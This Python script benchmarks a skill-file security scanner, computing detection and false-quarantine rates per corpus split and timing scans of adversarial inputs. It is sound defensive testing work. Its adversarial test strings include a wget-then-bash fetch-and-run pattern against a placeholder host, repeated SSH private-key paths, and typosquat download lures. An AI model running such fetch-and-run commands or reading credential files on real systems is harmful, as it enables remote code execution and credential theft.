#!/usr/bin/env python
"""The skill scanner on its corpus: detection and false-quarantine rates, per part.

``tests/data/skill_scan/`` holds SKILL.md files written for this benchmark, modelled on
published attack write-ups (prompt injection, ASCII smuggling with Unicode tags,
variation-selector smuggling, Trojan Source bidi, homoglyphs, curl|sh installers,
base64-to-shell droppers, credential stealers posting to webhooks, persistence through
authorized_keys and cron) and benign skills, several of which *talk about* those
patterns (a security checklist, a prompt-injection detector, a red-team plan, install
skills that download with curl and verify a checksum). A fixture is a ``*.md`` file
or a skill folder (``SKILL.md`` + ``scripts/``, ``references/``... shaped like published
skills, issue 39), scanned as ``crystalmesh skill scan`` does. Two parts: ``tune`` (the
rules were developed against it) and ``holdout`` (written first, before the scanner, and
not looked at while tuning). For each part:

- detection: malicious fixtures quarantined *by content* (a refusal is not a detection);
- flagged: malicious fixtures whose verdict is at least ``warn``;
- refused: fixtures the scanner would not read (too large, not text...), counted apart;
- false quarantine: benign quarantined; false warn: benign warned; benign refused;
- scan time per file (p50, max, ms) and, once, the time of a set of adversarial inputs
  (the size cap, a long line of one repeated token, many comment openers...).

    .venv/bin/python scripts/bench_scan.py [--parts tune holdout] [--smoke]

``--smoke``: the first 3 files of each folder of the tune part, one adversarial input.

``--public MANIFEST``: the skills of a committed manifest of public sources (published
collections, scanner fixtures, the ClawHub archive's ClawHavoc publishers), read from git
mirrors (``--mirror``, default /work/.mirror; skipped with a message when absent: CI does
not run it), reported per source and split (tune / holdout) — malicious quarantined by
content, warned, missed, refused; benign quarantined, warned, refused — with the sizes of
the skills (files, bytes) and whether each would fit a market bundle. ``scripts/_public_skills.py``
builds the manifest (``--build-manifest``) and says how labels and splits were decided.
Each split is also reported with the labels a reader gave after reading the skills (``--review``,
default ``tests/data/skill_scan/public_labels_review.json``: path, old label, evidence, new
label): the tune part's corrections, and the blind review of the held-out part (every
malicious label and a seeded sample of benign ones, decided before any scanner output of a
held-out skill was seen; no rule changed after). A section applies to its own split only;
``unclear`` and ``excluded`` skills are counted apart, in neither rate. A table puts raw and
reviewed figures side by side per split and source. Totals per round of sources (the manifest's
``"round"``): ``all third round [holdout]`` is the clean held-out figure (sources added after the
second held-out half had been read, committed before they were scanned); the first and second
rounds' held-out halves were read while tuning and count as tune. The last line is one JSON object.
"""

from __future__ import annotations

import argparse
import base64
import re
import tempfile
import time
import zlib
from pathlib import Path

import _public_skills as public
from _bench import add_smoke_flag, print_result, quantiles, smoke

from node.market import scan_folder, scan_text
from node.market.scan import Unscannable, market_bundle
from protocol.skill_bundle import MAX_BUNDLE_BYTES, MAX_RESOURCE_BYTES, InvalidSkillBundle, build

CORPUS = Path(__file__).resolve().parents[1] / "tests" / "data" / "skill_scan"
SCAN_LIMIT = MAX_BUNDLE_BYTES  # the scanner's cap on one text (scanner.MAX_SCAN_CHARS)
ADVERSARIAL = {
    "repeated_fetch": "curl " * (SCAN_LIMIT // 5),
    "pipe_far_away": ("curl x" + " " * 290 + "|") * (SCAN_LIMIT // 300),
    "comment_openers": "<!--" * (SCAN_LIMIT // 4),
    "zero_width_flood": "\u200b" * SCAN_LIMIT,
    "tag_flood": chr(0xE0041) * (SCAN_LIMIT // 2),
    "quote_flood": '"' * SCAN_LIMIT,
    "mixed_script_words": "аbc " * (SCAN_LIMIT // 4),
    # The whole-skill rules and the decoder (node/market/scan/flows.py, decode.py).
    "concatenated_literals": ('"a" + ' * (SCAN_LIMIT // 6))[:SCAN_LIMIT],
    "character_codes": "chr(99)+" * (SCAN_LIMIT // 8),
    "lure_lines": ("[x](https://githuh.com/a.zip) password: abc run download\n" * (SCAN_LIMIT // 56))[:SCAN_LIMIT],
    "fetch_then_run": "".join(f"wget https://x.example/a{i}.sh\nbash a{i}.sh\n" for i in range(4000))[:SCAN_LIMIT],
    "credential_paths": "~/.ssh/id_rsa\n" * (SCAN_LIMIT // 14),
    # Issue 39's third round: look-alike hosts, shell variables, rot13, a zlib bomb in base64.
    "look_alike_hosts": (("see https://" + "anthropicx" * 6 + ".com/x ") * (SCAN_LIMIT // 80))[:SCAN_LIMIT],
    "shell_variables": ("".join(f'a{i}="x{i}"\n' for i in range(3000)) + "$a1$a2 " * 5000)[:SCAN_LIMIT],
    "rot13_literals": ("rot13\n" + '"abcdef ghij/kl" ' * 8000)[:SCAN_LIMIT],
    "zlib_bomb_in_base64": ('x = "' + base64.b64encode(zlib.compress(b"A" * (20 * 1024 * 1024), 9)).decode())[:SCAN_LIMIT],
}


def as_bundle(text: str) -> str | None:
    """``text`` as the largest market bundle it fills: a short SKILL.md and the text cut into
    resource files of at most ``MAX_RESOURCE_BYTES`` (what a hostile seller can deliver)."""
    skill_md = "---\nname: flood\ndescription: an adversarial bundle\n---\nSee the resources."
    room = MAX_BUNDLE_BYTES - len(skill_md) - 200
    data = text.encode("utf-8")[:room]
    resources, index = {}, 0
    while data:
        part = data[:MAX_RESOURCE_BYTES - 100].decode("utf-8", "ignore")
        resources[f"references/part{index}.md"] = part
        data = data[len(part.encode("utf-8")):] if part else b""
        index += 1
    try:
        return build(skill_md, resources).encode()
    except InvalidSkillBundle:
        return None


def run_part(part: str, limit: int | None) -> dict[str, object]:
    result: dict[str, object] = {}
    times_ms: list[float] = []
    for label in ("malicious", "benign"):
        folder = CORPUS / part / label
        files = sorted([*folder.glob("*.md"), *(path for path in folder.iterdir() if path.is_dir())])[:limit]
        verdicts = {}
        for path in files:
            started = time.perf_counter()
            if path.is_dir():
                verdicts[path.name] = str(scan_folder(path).verdict)
            else:
                verdicts[path.name] = str(scan_text(path.read_text(encoding="utf-8")).verdict)
            times_ms.append((time.perf_counter() - started) * 1000)
        quarantined = [name for name, verdict in verdicts.items() if verdict == "quarantine"]
        warned = [name for name, verdict in verdicts.items() if verdict == "warn"]
        ok = [name for name, verdict in verdicts.items() if verdict == "ok"]
        refused = [name for name, verdict in verdicts.items() if verdict == "refused"]
        if label == "malicious":
            result |= {"malicious": len(files),
                       "detection_rate": round(len(quarantined) / max(1, len(files)), 3),
                       "flagged_rate": round((len(quarantined) + len(warned)) / max(1, len(files)), 3),
                       "malicious_refused": sorted(refused), "missed": sorted(warned + ok)}
        else:
            result |= {"benign": len(files),
                       "false_quarantine_rate": round(len(quarantined) / max(1, len(files)), 3),
                       "false_warn_rate": round(len(warned) / max(1, len(files)), 3),
                       "benign_refused_rate": round(len(refused) / max(1, len(files)), 3),
                       "false_quarantined": sorted(quarantined), "warned_benign": sorted(warned),
                       "benign_refused": sorted(refused)}
    result["scan_ms"] = quantiles(times_ms, (50,), digits=2)
    return result


def _wire_fit(folder: Path) -> tuple[str, str]:
    """("fits", "") or why ``skill add`` would refuse the skill as one market bundle (192 KiB,
    ``node.market.market_bundle``, which builds ClawHub's missing front matter from _meta.json):
    a code and the reason's shape (numbers and names cut out, so reasons can be counted)."""
    try:
        _, note = market_bundle(folder)
    except Unscannable as error:
        return error.code, re.sub(r"\S*[/\d]\S*", "#", str(error))[:80]
    except InvalidSkillBundle as error:
        code = "too_large" if "larger than" in str(error) or "at most" in str(error) else "malformed"
        return code, re.sub(r"'[^']*'|\S*[/\d]\S*", "#", str(error))[:80]
    return ("fits, front matter from _meta.json", "") if note else ("fits", "")


VERDICT_KEYS = {("malicious", "quarantine"): "detected", ("malicious", "warn"): "malicious_warned",
                ("malicious", "refused"): "malicious_refused", ("benign", "quarantine"): "false_quarantine",
                ("benign", "warn"): "benign_warned", ("benign", "refused"): "benign_refused",
                ("malicious", "ok"): "malicious_missed"}
TOTAL_KEYS = ("malicious", "detected", "malicious_warned", "malicious_missed", "malicious_refused", "benign",
              "false_quarantine", "benign_refused", "benign_warned")


REVIEWED_KEYS = ("malicious", "detected", "malicious_warned", "malicious_missed", "malicious_refused", "benign",
                 "false_quarantine", "benign_warned", "benign_refused", "unclear", "excluded")


def reviewed_totals(rows: dict[tuple[str, str], dict[str, int]], source: str, split: str, label: str,
                    verdict: str) -> None:
    """Count one scanned skill under its reviewed label: malicious and benign as the raw rows are;
    ``unclear`` and ``excluded`` only counted, in neither side's rates."""
    row = rows.setdefault((source, split), dict.fromkeys(REVIEWED_KEYS, 0))
    row[label] += 1
    key = VERDICT_KEYS.get((label, verdict))
    if key is not None:
        row[key] += 1


def _rate(part: int, whole: int) -> float | None:
    return round(part / whole, 3) if whole else None


def side_by_side(result: dict[str, object]) -> list[str]:
    """Lines of a table: per split and source, the raw figures and the reviewed ones under them."""
    header = (f"{'split':8} {'source':42} {'labels':9} {'malicious: quarantined/warned/missed/refused':46} "
              f"{'benign: quarantined/warned/refused':36} unclear excluded")
    lines: list[tuple[tuple[str, bool, str, bool], str]] = []
    for name, row in result.items():
        if not isinstance(row, dict) or "detected" not in row or " [" not in name:
            continue
        source, tail = name.split(" [", 1)
        split, _, reviewed = tail.rstrip("]").partition(", ")
        malicious = (f"{row['detected']}/{row['malicious']}" + (
            f" {row['malicious_warned']} {row['malicious_missed']} {row['malicious_refused']}"
            if "malicious_missed" in row else ""))
        benign = (f"{row['false_quarantine']}/{row['benign']} {row['benign_warned']} {row['benign_refused']}")
        apart = f"{row['unclear']} {row['excluded']}" if "unclear" in row else "- -"
        line = f"{split:8} {source[:42]:42} {'reviewed' if reviewed else 'raw':9} {malicious:46} {benign:36} {apart}"
        lines.append(((split, source == "all", source, bool(reviewed)), line))
    return [header] + [line for _, line in sorted(lines)]


def run_public(manifest: Path, mirror: Path, show_holdout: bool, limit: int | None,
               splits: tuple[str, ...] = ("tune", "holdout"), review: Path | None = None) -> dict[str, object]:
    """Scan every skill of the manifest read from its mirror; figures per source and split.

    Names are listed for the tune part only unless ``show_holdout`` (the held-out part is
    measured, not read). With ``review`` (``public.load_review``), each reviewed split is also
    counted with the labels its own review gave (``public.reviewed_label``)."""
    reviews = public.load_review(review) if review is not None else {}
    reviewed_rows: dict[tuple[str, str], dict[str, int]] = {}
    entries = [entry for entry in public.load(manifest) if entry["split"] in splits]
    if limit is not None:
        entries = entries[:limit]
    rows: dict[tuple[str, str], dict[str, object]] = {}
    times_ms: list[float] = []
    sizes: list[tuple[int, int]] = []
    fit: dict[str, int] = {}
    wire_reasons: dict[str, int] = {}
    with tempfile.TemporaryDirectory() as temporary:
        for item in public.materialize(entries, mirror, Path(temporary)):
            entry = item.entry
            row = rows.setdefault((entry["source"], entry["split"]), {
                "malicious": 0, "detected": 0, "malicious_warned": 0, "malicious_missed": 0, "malicious_refused": 0,
                "benign": 0, "false_quarantine": 0, "benign_warned": 0, "benign_refused": 0,
                "incomplete_in_mirror": 0, "names": {}})
            if item.folder is None:
                row["incomplete_in_mirror"] = int(row["incomplete_in_mirror"]) + 1  # type: ignore[call-overload]
                continue
            files = [path for path in item.folder.rglob("*") if path.is_file()]
            sizes.append((len(files), sum(path.stat().st_size for path in files)))
            started = time.perf_counter()
            report = scan_folder(item.folder)
            times_ms.append((time.perf_counter() - started) * 1000)
            fitted, why = _wire_fit(item.folder)
            fit[fitted] = fit.get(fitted, 0) + 1
            if why:
                wire_reasons[why] = wire_reasons.get(why, 0) + 1
            verdict = str(report.verdict)
            label = entry["label"]
            key = VERDICT_KEYS.get((label, verdict))
            reviewed = public.reviewed_label(reviews, entry)
            if reviewed is not None:
                reviewed_totals(reviewed_rows, entry["source"], entry["split"], reviewed, verdict)
            row[label] = int(row[label]) + 1  # type: ignore[call-overload]
            if key is not None:
                row[key] = int(row[key]) + 1  # type: ignore[call-overload]
            names = row["names"]
            assert isinstance(names, dict)
            if (entry["split"] == "tune" or show_holdout) and key is not None:
                high = sorted({f.rule for f in report.findings if f.severity == "high"})
                names.setdefault(key, []).append(f"{entry['path']}: {verdict} {','.join(high) or report.summary()[:120]}")
    result: dict[str, object] = {}
    for (source, split), row in sorted(rows.items()):
        malicious, benign = int(row["malicious"]), int(row["benign"])  # type: ignore[call-overload]
        row["detection_rate"] = round(int(row["detected"]) / malicious, 3) if malicious else None  # type: ignore[call-overload]
        row["false_quarantine_rate"] = round(int(row["false_quarantine"]) / benign, 3) if benign else None  # type: ignore[call-overload]
        row["benign_refused_rate"] = round(int(row["benign_refused"]) / benign, 3) if benign else None  # type: ignore[call-overload]
        row["benign_warned_rate"] = round(int(row["benign_warned"]) / benign, 3) if benign else None  # type: ignore[call-overload]
        result[f"{source} [{split}]"] = row
    for (source, split), counted in sorted(reviewed_rows.items()):
        result[f"{source} [{split}, reviewed labels]"] = counted | {
            "detection_rate": _rate(counted["detected"], counted["malicious"]),
            "false_quarantine_rate": _rate(counted["false_quarantine"], counted["benign"])}
    for split in ("tune", "holdout"):
        total = {key: sum(int(row[key]) for (_, part), row in rows.items() if part == split)  # type: ignore[call-overload]
                 for key in TOTAL_KEYS}
        result[f"all [{split}]"] = total
        counted_rows = [counted for (_, part), counted in reviewed_rows.items() if part == split]
        if counted_rows:
            summed = {key: sum(counted[key] for counted in counted_rows) for key in REVIEWED_KEYS}
            result[f"all [{split}, reviewed labels]"] = summed | {
                "detection_rate": _rate(summed["detected"], summed["malicious"]),
                "false_quarantine_rate": _rate(summed["false_quarantine"], summed["benign"]),
                "benign_warned_rate": _rate(summed["benign_warned"], summed["benign"]),
                "benign_refused_rate": _rate(summed["benign_refused"], summed["benign"])}
    # Totals per round of sources (the manifest's "round"): the newest round's held-out half is the clean
    # figure; an older round's held-out half was read while tuning (it counts as tune in the docs).
    round_of = {entry["source"]: int(entry["round"]) for entry in entries}
    for number, round_name in ((3, "third round"), (2, "second round"), (1, "first round")):
        for split in ("tune", "holdout"):
            chosen = [row for (source, part), row in rows.items()
                      if part == split and round_of.get(source, 1) == number]
            if chosen:
                summed_round = {key: sum(int(row[key]) for row in chosen) for key in TOTAL_KEYS}  # type: ignore[call-overload]
                result[f"all {round_name} [{split}]"] = summed_round | {
                    "detection_rate": _rate(summed_round["detected"], summed_round["malicious"]),
                    "false_quarantine_rate": _rate(summed_round["false_quarantine"], summed_round["benign"])}
            counted_round = [counted for (source, part), counted in reviewed_rows.items()
                             if part == split and round_of.get(source, 1) == number]
            if counted_round:
                summed_reviewed = {key: sum(counted[key] for counted in counted_round) for key in REVIEWED_KEYS}
                result[f"all {round_name} [{split}, reviewed labels]"] = summed_reviewed | {
                    "detection_rate": _rate(summed_reviewed["detected"], summed_reviewed["malicious"]),
                    "false_quarantine_rate": _rate(summed_reviewed["false_quarantine"], summed_reviewed["benign"])}
    result["market_bundle_refusals"] = wire_reasons
    files_sorted = sorted(size[0] for size in sizes)
    bytes_sorted = sorted(size[1] for size in sizes)
    result["sizes"] = {"skills": len(sizes), "files": quantiles(files_sorted, (50, 90, 99), digits=0),
                       "bytes": quantiles(bytes_sorted, (50, 90, 99), digits=0), "market_bundle": fit}
    result["scan_ms"] = quantiles(times_ms, (50, 90, 99), digits=1)
    return result


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--parts", nargs="+", default=["tune", "holdout"])
    parser.add_argument("--limit", type=int, default=None, help="files per folder (default: all)")
    parser.add_argument("--adversarial", type=int, default=len(ADVERSARIAL))
    parser.add_argument("--public", type=Path, metavar="MANIFEST",
                        help="scan the public skills named in MANIFEST from git mirrors (see scripts/_public_skills.py)")
    parser.add_argument("--mirror", type=Path, default=public.DEFAULT_MIRROR)
    parser.add_argument("--splits", nargs="+", default=["tune", "holdout"], help="with --public")
    parser.add_argument("--review", type=Path, default=public.DEFAULT_REVIEW,
                        help="labels given after reading the skills, per split (each applied to its own split)")
    parser.add_argument("--show-holdout", action="store_true", help="list held-out names too (after tuning)")
    parser.add_argument("--build-manifest", type=Path, metavar="MANIFEST",
                        help="write MANIFEST from the mirrors (labels and splits from paths only) and exit")
    add_smoke_flag(parser)
    arguments = smoke(parser.parse_args(), parts=["tune"], limit=3, adversarial=1)
    if arguments.build_manifest is not None:
        entries = public.build_manifest(arguments.mirror)
        public.save(arguments.build_manifest, entries)
        print_result({"skills": len(entries)})
        return
    if arguments.public is not None:
        if not any(public.mirror_of(arguments.mirror, source).exists() for source in public.LABELLERS):
            print(f"no mirror of any public source under {arguments.mirror}: nothing to measure (skipped)")
            print_result({"skipped": "no mirror"})
            return
        measured = run_public(arguments.public, arguments.mirror, arguments.show_holdout, arguments.limit,
                              tuple(arguments.splits), arguments.review)
        print("\n".join(side_by_side(measured)))
        print_result(measured)
        return
    result: dict[str, object] = {part: run_part(part, arguments.limit) for part in arguments.parts}
    adversarial = {}
    for name, text in list(ADVERSARIAL.items())[:arguments.adversarial]:
        started = time.perf_counter()
        verdict = scan_text(text).verdict
        adversarial[name] = {"verdict": str(verdict), "ms": round((time.perf_counter() - started) * 1000)}
        bundle = as_bundle(text)
        if bundle is not None:
            started = time.perf_counter()
            verdict = scan_text(bundle).verdict
            adversarial[name] |= {"bundle_verdict": str(verdict),
                                  "bundle_ms": round((time.perf_counter() - started) * 1000)}
    result["adversarial"] = adversarial
    for part in arguments.parts:
        summary = result[part]
        assert isinstance(summary, dict)
        print(f"{part}: detection {summary['detection_rate']:.0%} of {summary['malicious']} malicious, "
              f"false quarantine {summary['false_quarantine_rate']:.0%}, refused "
              f"{summary['benign_refused_rate']:.0%} of {summary['benign']} benign")
    print_result(result)


if __name__ == "__main__":
    main()
